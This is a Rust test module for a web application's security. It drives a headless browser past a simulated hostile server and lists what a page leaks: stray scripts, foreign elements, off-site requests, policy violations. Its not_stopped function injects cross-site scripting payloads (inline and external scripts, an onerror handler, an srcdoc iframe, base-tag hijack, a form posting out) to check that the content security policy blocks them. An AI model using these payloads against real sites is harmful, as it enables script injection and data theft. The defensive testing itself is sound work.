//! A browser on the pages of a hostile desk, and what is wrong with a page.

use std::time::Duration;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::browser::Browser;
use crate::evil_desk::{CASE, EvilDesk, GRANT, REPORT};
use crate::job::let_in;
use crate::program::{Program, key_file, keygen};
use crate::proxy::{Canary, Proxy};

/// What a page may have besides text: the elements of this program.
const FOREIGN: &str = "script, iframe, frame, object, embed, base, style, math, video, audio, \
                       source, template, xmp, plaintext, noscript, marquee, dialog, \
                       meta[http-equiv], [style], [onload], [onerror], [onfocus], [ontoggle], \
                       [srcdoc], svg script, svg [href], a[target], a[ping]";

/// A program in front of the hostile desk, with a browser that reaches it through a proxy.
pub struct Scene {
    _folder: TempDir,
    _desk: EvilDesk,
    pub program: Program,
    pub proxy: Proxy,
    pub canary: Canary,
    pub browser: Browser,
    pub base: String,
}

impl Scene {
    pub fn new() -> Option<Self> {
        let browser = Browser::start()?;
        let folder = TempDir::new().unwrap();
        let path = key_file(&folder, "alice");
        let canary = Canary::start("<p>loaded</p>");
        let desk = EvilDesk::start(&keygen(&path), &canary.host);
        let program = Program::start(&path, &desk.url);
        let proxy = Proxy::start(&program.host);
        let mut scene = Self {
            _folder: folder,
            _desk: desk,
            program,
            proxy,
            canary,
            browser,
            base: String::new(),
        };
        let link = format!("http://{}{}", scene.proxy.host, scene.program.enter_path());
        scene.browser.go(&link);
        let_in(&scene.program, &mut scene.browser);
        let url = scene.browser.url();
        url.strip_suffix("/queue")
            .expect("the queue")
            .clone_into(&mut scene.base);
        Some(scene)
    }

    /// Opens the hostile report, as an officer does.
    pub fn open_report(&mut self) {
        let url = format!("{}/case/{CASE}", self.base);
        self.browser.go(&url);
        self.browser
            .follow(&format!("button[aria-label^='Open report {}']", "12121212"));
        self.browser.follow("main form[action$='/sign'] button");
        assert!(
            self.browser.url().contains("/view/"),
            "{}",
            self.browser.text()
        );
    }

    pub fn view(&self) -> String {
        format!("{}/view/{GRANT}/{REPORT}", self.base)
    }

    /// Shows a page, and returns what is wrong with it.
    pub fn findings(&mut self, url: &str) -> Vec<String> {
        let browser = &mut self.browser;
        self.canary.take();
        browser.events.clear();
        browser.go(url);
        self.findings_here(url)
    }

    /// Shows the page to which a click leads, and returns what is wrong with it.
    pub fn findings_after(&mut self, selector: &str) -> Vec<String> {
        self.canary.take();
        self.browser.events.clear();
        self.browser.follow(selector);
        let url = self.browser.url();
        self.findings_here(&url)
    }

    /// What is wrong with the page that is shown.
    pub fn findings_here(&mut self, url: &str) -> Vec<String> {
        let browser = &mut self.browser;
        // All that a click unfolds is unfolded, and all that has the focus or the pointer gets it.
        browser.eval("document.querySelectorAll('details').forEach(one => one.open = true)");
        browser.settle(Duration::from_millis(300));
        let mut found = Vec::new();
        if browser.url() != url {
            found.push(format!("the browser went to {}", browser.url()));
        }
        if browser.eval("String(window.pwned)") != json!("undefined") {
            found.push("a script ran".to_owned());
        }
        let foreign = browser.eval(&format!(
            "[...document.querySelectorAll({FOREIGN:?})].map(e => e.outerHTML.slice(0, 80))"
        ));
        for element in foreign.as_array().unwrap() {
            found.push(format!("a foreign element: {element}"));
        }
        let images = "document.querySelectorAll('img, picture, image, input[type=image]').length";
        if !url.ends_with("/page") && browser.eval(images) != json!(0) {
            found.push("a picture on a page that has other things".to_owned());
        }
        let links = browser.eval(
            "[...document.querySelectorAll('[href], [src], [action]')].map(e => \
             e.href?.baseVal ?? e.href ?? e.src ?? e.action)",
        );
        for link in links.as_array().unwrap() {
            let link = link.as_str().unwrap_or_default();
            let own = format!("http://{}/", self.proxy.host);
            if !link.starts_with(&own) {
                found.push(format!("a link to {link}"));
            }
        }
        let (own, browser) = (format!("http://{}/", self.proxy.host), &self.browser);
        let asked = browser.told("Network.requestWillBeSent").into_iter();
        for event in asked {
            let to = event["params"]["request"]["url"]
                .as_str()
                .unwrap_or_default();
            // The browser's own icon of a date field is a data address. One of the page's would hit
            // the policy, which is looked for below.
            if !to.starts_with(&own) && !to.starts_with("data:") {
                found.push(format!("a request to {to}"));
            }
            if !url.ends_with("/page") && (to.contains("/picture/") || to.contains("/preview/")) {
                found.push(format!("a picture that nobody asked for: {to}"));
            }
        }
        for event in browser.told("Page.javascriptDialogOpening") {
            found.push(format!("a dialog: {event}"));
        }
        for event in browser.told("Log.entryAdded") {
            let text = &event["params"]["entry"]["text"];
            // A form with something wrong is answered so.
            if !text.as_str().unwrap_or_default().contains("status of 422") {
                found.push(format!("the browser complains: {text}"));
            }
        }
        for event in browser.told("Audits.issueAdded") {
            let code = &event["params"]["issue"]["code"];
            if code == "ContentSecurityPolicyIssue" {
                found.push(format!("the policy was hit: {event}"));
            }
        }
        for request in self.canary.take() {
            if request.starts_with("GET /ran ") {
                found.push("a script ran".to_owned());
            }
            found.push(format!("loaded: {request}"));
        }
        found
    }

    /// Puts into a page what an escaping that was forgotten would let through, and returns what
    /// the policy does not stop.
    pub fn not_stopped(&mut self) -> Vec<String> {
        let canary = self.canary.host.clone();
        self.canary.take();
        let put = format!(
            "(() => {{ window.pwned = undefined; \
             const add = (name, more) => {{ const e = document.createElement(name); \
               Object.assign(e, more); document.body.append(e); return e; }}; \
             add('script', {{textContent: 'window.pwned = 1'}}); \
             add('script', {{src: 'http://{canary}/script'}}); \
             add('img', {{src: 'http://{canary}/img'}}); \
             add('img', {{src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', \
               onload: () => window.dataShown = 1}}); \
             add('iframe', {{src: 'http://{canary}/frame'}}); \
             add('iframe', {{srcdoc: '<script>top.pwned = 1</' + 'script>'}}); \
             add('link', {{rel: 'stylesheet', href: 'http://{canary}/sheet'}}); \
             add('object', {{data: 'http://{canary}/object'}}); \
             add('style', {{textContent: 'body {{ color: rgb(1, 2, 3) }}'}}); \
             add('div', {{}}).innerHTML = '<p style=\"color: rgb(4, 5, 6)\" id=styled>' + \
               '<img src=x onerror=\"window.pwned = 2\">'; \
             const base = add('base', {{href: 'http://{canary}/'}}); document.head.prepend(base); \
             const form = add('form', {{action: 'http://{canary}/form', method: 'post'}}); \
             add('iframe', {{name: 'sink'}}); \
             form.target = 'sink'; form.submit(); }})()"
        );
        self.browser.eval(&put);
        self.browser.settle(Duration::from_millis(700));
        let mut found: Vec<_> = self.canary.take();
        let state = self.browser.eval(
            "({pwned: window.pwned ?? 0, color: getComputedStyle(document.body).color, \
             styled: getComputedStyle(document.querySelector('#styled')).color, \
             base: document.baseURI, data: window.dataShown ?? 0})",
        );
        let is = |name: &str, value: Value| state[name] == value;
        if !is("pwned", json!(0)) {
            found.push("a script ran".to_owned());
        }
        if is("color", json!("rgb(1, 2, 3)")) || is("styled", json!("rgb(4, 5, 6)")) {
            found.push("a style was applied".to_owned());
        }
        if state["base"].as_str().unwrap().contains(&canary) {
            found.push("the base was changed".to_owned());
        }
        if is("data", json!(1)) {
            found.push("a data address was shown".to_owned());
        }
        found
    }
}
